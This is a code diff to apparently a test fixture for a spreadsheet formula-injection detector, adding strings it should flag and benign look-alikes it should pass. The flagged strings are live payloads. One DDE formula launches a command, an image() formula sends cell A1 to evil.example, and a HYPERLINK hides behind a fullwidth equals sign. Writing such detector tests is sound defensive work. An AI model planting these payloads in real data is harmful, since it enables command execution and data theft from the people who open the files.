@@ -39,6 +39,9 @@ export const formulaInjection = defineAttack({
       "Jane\n=cmd|'/C calc'!A0",
       '=SUM(A1:A9)',
       "+cmd|' /C calc'!A0",
+      '+image("http://evil.example/?x="&A1)',
+      '@INFO("directory")',
+      '=CELL(A1)',
       '\uff1dHYPERLINK("http://evil.example")',
     ],
     misses: [
@@ -60,6 +63,10 @@ export const formulaInjection = defineAttack({
       'total\n- sum (net)',
       '=A1+B2',
       'x\n=SUM(A1)',
+      'Tomorrow:\n-Call(Jane)\n-Info(office)',
+      '-Image(1)',
+      '@Register()\nclass Orders {}',
+      '+CALL(555) 0100',
     ],
   },
 });
